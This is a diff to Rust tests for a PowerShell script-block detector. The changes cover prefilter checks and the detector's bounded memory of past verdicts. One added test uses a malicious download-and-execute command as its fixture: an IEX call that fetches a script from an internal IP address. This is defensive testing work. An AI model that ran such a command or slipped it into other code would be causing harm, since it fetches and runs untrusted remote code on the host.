@@ -69,15 +69,13 @@ fn prefilter_rejects_only_what_the_gate_rejects_on_the_corpus() {
             let text = judged(&d, s);
             let full = d.full_gate(&text);
             passed_gate += usize::from(full.is_some());
-            if d.gate(&text).is_none() {
+            if !PowerShellDetector::passes_prefilters(&text) {
                 rejected += 1;
                 assert!(
                     full.is_none(),
                     "{}: prefilter rejects a text the gate passes: {text:?}",
                     path.display()
                 );
-            } else {
-                assert_eq!(full.is_some(), d.gate(&text).is_some());
             }
         }
     }
@@ -89,6 +87,63 @@ fn prefilter_rejects_only_what_the_gate_rejects_on_the_corpus() {
     // The prefilter does its job: most are decided without the analysis.
     assert!(rejected * 2 > scripts, "{rejected} of {scripts}");
     assert!(passed_gate > 0);
+}
+
+#[test]
+fn a_repeated_text_is_judged_once_and_the_same() {
+    // The memory of verdicts changes no decision: the same block from two hosts is
+    // two findings, from one host one (merged), as without it.
+    let text = "$ErrorActionPreference = 'SilentlyContinue'; IEX (New-Object Net.WebClient).DownloadString('http://10.0.0.5/a.ps1')";
+    let mut d = detector();
+    let mut out = Findings::default();
+    for host in ["a", "b", "a"] {
+        let s = ScriptBlock {
+            time: None,
+            host: host.into(),
+            pid: None,
+            user: None,
+            script_block_id: String::new(),
+            path: None,
+            host_application: None,
+            text: text.into(),
+            event_id: 4104,
+            provenance: Provenance {
+                path: std::sync::Arc::from("t"),
+                position: crate::event::Position::Line(1),
+                format: "xml",
+            },
+        };
+        d.observe(&Event::Script(s), &mut out);
+    }
+    assert_eq!(out.len(), 2);
+    assert_eq!(d.verdicts.entries.len(), 1);
+    // A benign text is not remembered (the prefilter decides it).
+    let mut out = Findings::default();
+    let mut s = ScriptBlock {
+        time: None,
+        host: "a".into(),
+        pid: None,
+        user: None,
+        script_block_id: String::new(),
+        path: None,
+        host_application: None,
+        text: "Get-ChildItem C:\\ | Sort-Object Length".into(),
+        event_id: 4104,
+        provenance: Provenance {
+            path: std::sync::Arc::from("t"),
+            position: crate::event::Position::Line(2),
+            format: "xml",
+        },
+    };
+    d.observe(&Event::Script(s.clone()), &mut out);
+    assert_eq!((out.len(), d.verdicts.entries.len()), (0, 1));
+    // Bounded: many distinct suppressing texts keep at most the limit.
+    for k in 0..(VERDICT_MEMORY + 50) {
+        s.text = format!("Get-Item x{k} -ea 0");
+        d.observe(&Event::Script(s.clone()), &mut out);
+    }
+    assert!(d.verdicts.entries.len() <= VERDICT_MEMORY);
+    assert_eq!(d.verdicts.order.len(), d.verdicts.entries.len());
 }
 
 #[test]
@@ -115,7 +170,7 @@ fn prefilter_keeps_every_finding_of_the_detector_tests() {
         ] {
             let full = d.full_gate(&v).is_some();
             fired += usize::from(full);
-            assert_eq!(full, d.gate(&v).is_some(), "{v}");
+            assert!(!full || PowerShellDetector::passes_prefilters(&v), "{v}");
         }
     }
     assert!(fired >= 9, "{fired}");
